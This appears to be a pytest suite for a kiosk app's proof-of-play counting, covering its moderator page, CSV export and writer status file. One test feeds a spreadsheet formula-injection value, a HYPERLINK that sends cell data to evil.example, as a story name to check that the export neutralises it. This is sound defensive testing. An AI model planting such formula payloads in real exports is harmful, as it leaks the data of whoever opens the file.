"""Proof of play: what the screens really showed, counted per story, screen and day, told to
moderators (admin page, CSV) and to the writer (`_status.txt`). Counts only."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest
from playwright.sync_api import expect

from kiosk.routes import display
from kiosk.status_file import NAME, render

from .factories import approved, drop
from .support import PASSWORD, LiveServer, add_users, make_settings, signed_in, wait_for

MONTHS = "January February March April May June July August September October November December"


def plays_of(server: LiveServer, story: int) -> int:
    counts = server.library.play_counts()
    return sum(t.plays for (sid, _, _), t in counts.items() if sid == story)


def beat(server: LiveServer, screen: str, plays: list[dict[str, Any]]) -> httpx.Response:
    return httpx.post(f"{server.url}/api/screens/{screen}/heartbeat", json={"plays": plays})


def last_beat(server: LiveServer) -> str:
    return next(s["last_seen"] for s in server.library.screens() if s["name"] == "default")


def data_version(db: sqlite3.Connection) -> int:
    """Moves whenever another connection commits to the file."""
    return db.execute("PRAGMA data_version").fetchone()[0]


def stats_of(client: httpx.Client, story: int) -> dict[str, Any]:
    subs = client.get("/api/admin/submissions", params={"status": "approved"}).json()
    return next(s["plays"] for s in subs["submissions"] if s["id"] == story)


def test_what_the_wall_showed_is_counted_told_and_kept_over_a_restart(
    tmp_path: Path, browser: Any, monkeypatch: pytest.MonkeyPatch, shots: Path
) -> None:
    monkeypatch.setattr(display, "HEARTBEAT_SECONDS", 1)  # the player beats every second
    settings = make_settings(tmp_path, timezone="Europe/Berlin")
    server = LiveServer(settings).start()
    try:
        content = settings.content_dir
        babette = approved(server, content, "babette-ruiz", "Babette Ruiz")["id"]
        ana = approved(server, content, "ana", "Ana Alvarez")["id"]
        add_users(server)
        # A new screen is written at once; after that, what it reports stays in memory.
        assert beat(server, "default", []).status_code == 204
        db = sqlite3.connect(settings.db_path)
        before = data_version(db)

        context = browser.new_context(viewport={"width": 1280, "height": 720})
        wall = context.new_page()
        wall.goto(server.url + "/display?slide_ms=300")
        wait_for(lambda: min(plays_of(server, babette), plays_of(server, ana)) >= 3, timeout=30)
        wall.close()
        assert data_version(db) == before, "proof of play committed to SQLite between flushes"

        mod = signed_in(server)
        stats = stats_of(mod, babette)
        total = stats["total"]
        assert total["plays"] == plays_of(server, babette) and total["screens"] == 1
        assert 0 < total["hours"] * 3600 < 30  # 300 ms a slide, a few dozen slides at most
        assert stats["week"] == stats["month"] == total
        assert stats["first_day"] == datetime.now(settings.zone).date().isoformat()

        # The moderator's view: the story's card on "On the screens".
        admin = context.new_page()
        admin.set_viewport_size({"width": 1920, "height": 1080})
        admin.goto(server.url + "/admin/login")
        admin.get_by_label("User name").fill("mod")
        admin.get_by_label("Password").fill(PASSWORD)
        admin.get_by_role("button", name="Sign in").click()
        admin.get_by_role("tab", name=re.compile("^On the screens")).click()
        row = admin.locator("article.row-card", has_text="Babette Ruiz")
        table = row.locator("table.plays-table")
        expect(table).to_contain_text("Shown on the screens")
        expect(table.locator("tr", has_text="Plays")).to_contain_text(str(total["plays"]))
        expect(table.locator("tr", has_text="Screens")).to_contain_text("1")
        admin.mouse.move(1, 1)
        admin.screenshot(path=shots / "admin-plays-1920.png")
        context.close()

        # The export: one row per day, story and screen, adding up to the same.
        answer = mod.get("/api/admin/plays.csv")
        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
        assert "attachment" in answer.headers["content-disposition"]
        rows = list(csv.DictReader(io.StringIO(answer.text)))
        mine = [r for r in rows if r["name"] == "Babette Ruiz"]
        assert {r["screen"] for r in mine} == {"default"}
        assert sum(int(r["plays"]) for r in mine) == total["plays"]
        assert mine[0]["source"] == "babette-ruiz.md"
        assert httpx.get(server.url + "/api/admin/plays.csv").status_code == 401

        # The writer's status: told at the next change of the library (or within the hour).
        drop(server, content, "cy", "Cy Chen")
        first = date.fromisoformat(stats["first_day"])
        since = f"{first.day} {MONTHS.split()[first.month - 1]}"
        times = "1 time" if total["plays"] == 1 else f"{total['plays']} times"
        told = (
            f"Your story about Babette Ruiz has been on the screens {times} on 1 screen"
            f" since {since}\r\n"
        )
        status = content / NAME
        wait_for(lambda: "cy.md" in status.read_text(encoding="utf-8"))
        assert told in status.read_bytes().decode("utf-8")

        # A clean stop writes the counts; they come back with the server.
        counted = server.library.play_counts()
        server.stop()
        assert data_version(db) != before
        stored = db.execute("SELECT SUM(plays) FROM plays WHERE submission_id = ?", (babette,))
        assert stored.fetchone()[0] == total["plays"]
        db.close()
        server = LiveServer(settings).start()
        assert server.library.play_counts() == counted
        assert stats_of(signed_in(server), babette) == stats
    finally:
        server.stop()


def test_only_stories_of_the_screens_own_playlist_from_accepted_screens_count(
    tmp_path: Path,
) -> None:
    settings = make_settings(tmp_path, screens={"lobby": {"tags": ["lobby"]}})
    server = LiveServer(settings).start()
    try:
        content = settings.content_dir
        ana = approved(server, content, "ana", "Ana Alvarez", tags="lobby")["id"]
        bo = approved(server, content, "bo", "Bo Berg")["id"]  # not for the lobby
        cy = drop(server, content, "cy", "Cy Chen")["id"]  # pending: on no screen

        def play(story: int, page: int = 0, seconds: float = 12.0) -> dict[str, Any]:
            return {"id": story, "revision": 1, "page": page, "seconds": seconds}

        forged = [play(ana), play(bo), play(cy), play(987654), play(ana, page=1)]
        assert beat(server, "lobby", forged).status_code == 204
        counts = server.library.play_counts()
        assert {key[0] for key in counts} == {ana}  # the others are not the lobby's to show
        assert sum(t.plays for t in counts.values()) == 1  # page 2 is the same showing
        assert sum(t.seconds for t in counts.values()) == 24.0

        # A screen nobody accepted is heard, but its counts are not kept until it is.
        assert beat(server, "stranger", [play(ana), play(bo)]).status_code == 204
        assert {key[1] for key in server.library.play_counts()} == {"lobby"}
        server.library.accept_screen("stranger")
        assert beat(server, "stranger", [play(bo)]).status_code == 204
        assert {key[1] for key in server.library.play_counts()} == {"lobby", "stranger"}

        # Bounded: 200 reports a beat, and a page on the wall for an hour at most.
        too_many = beat(server, "lobby", [play(ana)] * 201)
        assert too_many.status_code == 422
        assert beat(server, "lobby", [play(ana, seconds=10**9)]).status_code == 204
        hours = server.library.play_stats("2000-01-01", "2000-01-01")[ana]["total"]["hours"]
        assert hours == round((24 + 3600) / 3600, 4)
        assert beat(server, "lobby", [play(ana, seconds=-1)]).status_code == 422
    finally:
        server.stop()


def test_the_export_is_safe_to_open_in_a_spreadsheet(tmp_path: Path) -> None:
    server = LiveServer(make_settings(tmp_path)).start()
    try:
        content = server.settings.content_dir
        name = '=HYPERLINK("http://evil.example/?"&A1, "Click, me")'
        evil = approved(server, content, "evil", name)["id"]
        plain = approved(server, content, "plain", '-Dee Dorn, "the" welder')["id"]
        plays = [{"id": s, "revision": 1, "seconds": 5} for s in (evil, plain)]
        assert beat(server, "default", plays).status_code == 204
        add_users(server)
        text = signed_in(server).get("/api/admin/plays.csv").text
        rows = list(csv.reader(io.StringIO(text)))
        names = {r[2] for r in rows[1:]}
        assert names == {"'" + name, '\'-Dee Dorn, "the" welder'}  # quoted and inert
        assert text.count("\r\n") == 3
    finally:
        server.stop()


def test_the_writer_is_told_in_plain_words() -> None:
    sub = {"id": 7, "status": "approved", "source": "babette.md", "name": "Babette Ruiz"}
    now, zone = datetime(2026, 12, 2, 9, 0, tzinfo=UTC), ZoneInfo("Europe/Berlin")

    def told(plays: int, screens: int, first_day: str) -> str:
        stats = {"total": {"plays": plays, "screens": screens}, "first_day": first_day}
        return render([sub], zone, now, {7: stats})

    once = "Your story about Babette Ruiz has been on the screens 1 time on 1 screen since 3 May\n"
    assert once in told(1, 1, "2026-05-03")
    many = "on the screens 412 times on 3 screens since 13 December 2025\n"
    assert many in told(412, 3, "2025-12-13")
    assert "Your story" not in told(0, 0, "2026-05-03")
    assert "Your story" not in render([sub], zone, now, {})


HIDE = """(hidden) => {
    Object.defineProperty(document, "hidden", { value: hidden, configurable: true });
    document.dispatchEvent(new Event("visibilitychange"));
}"""


def test_a_hidden_page_shows_nothing_and_counts_nothing(
    server: LiveServer, content: Path, browser: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(display, "HEARTBEAT_SECONDS", 1)
    ana = approved(server, content, "ana", "Ana Alvarez")["id"]
    context = browser.new_context(viewport={"width": 1280, "height": 720})
    try:
        wall = context.new_page()
        wall.goto(server.url + "/display?slide_ms=300")
        wait_for(lambda: plays_of(server, ana) >= 2, timeout=30)
        wall.evaluate(HIDE, True)  # a tab in the background: the rotation goes on, unseen
        wall.wait_for_function("() => window.kiosk.transitions > 2")
        hidden_at = wall.evaluate("window.kiosk.transitions")
        wall.wait_for_function(f"() => window.kiosk.transitions >= {hidden_at + 6}")
        # The slide that was on when the page was hidden may come with the next beat; after
        # it, two more beats bring nothing.
        counts = []
        for _ in range(3):
            seen = last_beat(server)
            wait_for(lambda seen=seen: last_beat(server) > seen)
            counts.append(plays_of(server, ana))
        assert counts[0] == counts[2]
        wall.evaluate(HIDE, False)
        wait_for(lambda: plays_of(server, ana) >= counts[2] + 2, timeout=30)
    finally:
        context.close()
